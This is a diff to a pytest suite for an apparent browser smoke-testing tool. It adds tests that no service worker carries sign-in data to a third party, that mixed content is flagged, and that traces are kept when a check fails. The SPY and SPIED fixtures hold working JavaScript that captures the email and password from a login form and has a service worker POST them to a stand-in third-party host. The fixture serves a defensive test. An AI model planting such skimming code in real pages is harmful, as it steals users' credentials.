@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import ssl
 from urllib.parse import parse_qs
+from zipfile import is_zipfile
 
 import pytest
 import trustme
@@ -12,6 +13,7 @@ from tests_support.web import Reply, reply, serve
 from smokegate.environment.model import Environment
 from smokegate.observation.browser.engine import ENGINE
 from smokegate.observation.browser.look import Look
+from smokegate.observation.browser.model import MIXED
 from smokegate.observation.browser.sign_in import Person
 from smokegate.observation.evidence.redact import Redactor
 
@@ -27,6 +29,26 @@ LEAKY = """<h1>Log in</h1><form><label>E-mail <input id=a></label><input type=pa
   await fetch("THIRD/collect", { method: "POST", body, mode: "no-cors" }).catch(() => {});
   document.body.innerHTML = "<p>Signed in as smoke@example.com</p>";
 };</script>"""
+
+
+#: A worker that copies what the page sends to a third party, and the form of a page that has it do so.
+SPY = """self.addEventListener("message", (event) => event.waitUntil(
+  fetch("THIRD/collect", { method: "POST", body: event.data, mode: "no-cors" }).finally(() =>
+    event.ports[0].postMessage("sent"))));"""
+SPIED = """document.forms[0].onsubmit = async (event) => {
+  event.preventDefault();
+  const [email, password] = [...document.forms[0].elements].map((each) => each.value);
+  const body = JSON.stringify({ email, password });
+  try {
+    const hired = await navigator.serviceWorker.register("/spy.js");
+    const worker = hired && (await navigator.serviceWorker.ready).active, channel = new MessageChannel();
+    const sent = new Promise((done) => { channel.port1.onmessage = done; });
+    worker.postMessage(body, [channel.port2]);
+    await sent;
+  } catch {}
+  await fetch("/session", { method: "POST", body });
+  document.body.innerHTML = "<p>Signed in as smoke@example.com</p>";
+};"""
 
 
 @pytest.fixture(scope="module")
@@ -58,15 +80,16 @@ def page(body: str, **headers: str) -> Reply:
     return Reply(200, text.encode(), (("Content-Type", "text/html"), *named))
 
 
-def look(web, *pages, person=None, ca_file=None, **sign_in):
+def look(web, *pages, person=None, ca_file=None, trace=None, failure="", **sign_in):
     """Check some pages, or sign in."""
-    section = {"url": web.url, "timeout": 4.0, "pages": [*pages] or [{"path": "/empty"}]}
+    section = {"url": web.url, "timeout": 4.0, "pages": [*pages] or [{"path": "/empty"}], "trace": trace}
     if sign_in:
         section["sign_in"] = sign_in
     table = {"name": "app", "title": "App", "backend": API, "browser": section, "ca_file": ca_file}
     environment = Environment.model_validate({**table, "sign_in": SIGN_IN} if sign_in else table)
     view = Look(environment, Redactor(), person, lambda *_: None, 90.0).take()
-    assert (view.absent, view.failure) == (None, "")
+    assert view.absent is None
+    assert failure in view.failure if failure else not view.failure
     return view
 
 
@@ -107,6 +130,23 @@ def test_nothing_of_the_account_goes_to_a_third_party(web, third):
     assert [(each.name, each.account_shown) for each in journey.steps] == [("log in", True), ("log in again", True)]
 
 
+def test_no_service_worker_carries_the_account_past_the_guard(web, third):
+    """A worker would send what it likes, unseen: none is registered while someone signs in."""
+    third.answers["/collect"] = reply({})
+    third.asked.clear()
+    form = "<form><input name=email><input type=password><button>Go</button></form>"
+    web.answers |= {
+        "/empty": page("<p>x</p>"),
+        "/spied": page(f"<h1>Log in</h1>{form}<script>{SPIED}</script>"),
+        "/spy.js": Reply(200, SPY.replace("THIRD", third.url).encode(), (("Content-Type", "text/javascript"),)),
+        "/session": reply({"ok": True}),
+    }
+    journey = look(web, person=PERSON, login="/spied", reload=False).journey
+
+    assert third.asked == []
+    assert journey.steps[0].account_shown
+
+
 def test_server_rendered_form_with_a_cookie_signs_in_and_stays(web):
     """A form that is posted, a redirect and a session cookie: no script is needed."""
 
@@ -144,9 +184,20 @@ def test_page_of_a_private_authority_is_seen_and_given_no_password(tmp_path):
     file = tmp_path / "authority.pem"
     authority.cert_pem.write_to_path(file)
     with serve(context) as private:
-        private.answers |= {"/": page("<p>Hello</p>"), "/enter": page("<form><input type=password></form>")}
+        mixed = "<p>Hello</p><script>fetch('http://api.invalid/items').catch(() => {})</script>"
+        private.answers |= {"/": page(mixed), "/enter": page("<form><input type=password></form>")}
         view = look(private, {"path": "/"}, person=PERSON, ca_file=str(file), login="/enter")
 
     assert [(each.problem, each.drawn) for each in view.pages] == [("", True)]
+    assert [each.text[:13] for each in view.pages[0].console if "items" in each.text] == ["Mixed Content"]
+    assert [each.error for each in view.pages[0].calls if "items" in each.url] == [MIXED]
     assert view.journey is None
     assert ("GET", "/enter") not in private.asked
+
+
+def test_a_trace_is_kept_also_of_a_look_that_fails(web, tmp_path):
+    """It is wanted most then; a selector that is none ends the look here."""
+    web.answers["/empty"] = page("<p>x</p>")
+    trace = tmp_path / "trace.zip"
+    look(web, {"path": "/empty", "shows": [{"selector": "]["}]}, trace=str(trace), failure="][")
+    assert is_zipfile(trace)
